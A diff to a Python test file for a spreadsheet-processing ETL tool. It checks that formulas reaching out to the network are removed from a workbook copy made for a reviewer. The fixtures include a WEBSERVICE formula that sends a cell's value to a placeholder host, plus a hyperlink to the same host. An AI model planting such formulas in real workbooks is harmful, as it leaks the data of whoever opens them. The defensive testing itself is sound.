@@ -10,6 +10,7 @@ from openpyxl.worksheet.datavalidation import DataValidation
 from package_fixtures import OFFICE, parts_of, related, with_parts
 from returns_fixtures import edited, put
 
+from etl.annotate import annotate_anew
 from etl.reading.live_formulas import begins_formula, reaches_out, starts_something
 
 WEB, LINK = '=WEBSERVICE("http://10.0.0.9/?"&E7)', '=HYPERLINK("http://10.0.0.9/","请点击")'
@@ -190,7 +191,7 @@ def test_a_workbook_with_parts_that_act_goes_back_as_our_template(kind):
 
 
 def test_what_is_made_for_a_reviewer_is_ours_and_holds_the_same_answers():
-    found = marked(hostile(), remade=True)
+    found = marked(hostile(), mark=annotate_anew)
     assert found.refilled and found.file_name == "报表（核查结果）.xlsx"
     parts = b"".join(parts_of(found.content).values())
     assert b"10.0.0.9" not in b"".join(re.findall(rb"<f[^>]*>.*?</f>", parts)) and b"<hyperlink r:id" not in parts
